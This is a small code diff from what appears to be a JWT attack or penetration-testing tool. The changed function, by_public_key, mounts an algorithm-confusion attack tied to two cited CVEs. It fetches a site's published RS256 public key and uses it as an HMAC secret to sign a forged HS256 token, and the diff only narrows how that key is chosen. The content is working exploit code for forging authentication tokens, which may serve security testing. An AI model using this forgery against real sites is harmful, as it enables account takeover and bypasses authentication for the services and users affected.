@@ -58,7 +58,8 @@ def unsigned(alg: str) -> Forge:
 def by_public_key(site: Site, token: str) -> str:
     """HS256 with the public key as its secret (CVE-2024-37568, CVE-2022-29217)."""
     document = site.http.get("/.well-known/jwks.json").get_json()
-    secret = RSAKey.import_key(document["keys"][0]).as_pem(private=False)
+    (public,) = [key for key in document["keys"] if key["alg"] == "RS256"]
+    secret = RSAKey.import_key(public).as_pem(private=False)
     hs256 = {"typ": "at+jwt", "alg": "HS256", "kid": parts(token)[0]["kid"]}
     return signed(hs256, token, lambda text: hmac.digest(secret, text, "sha256"))
 
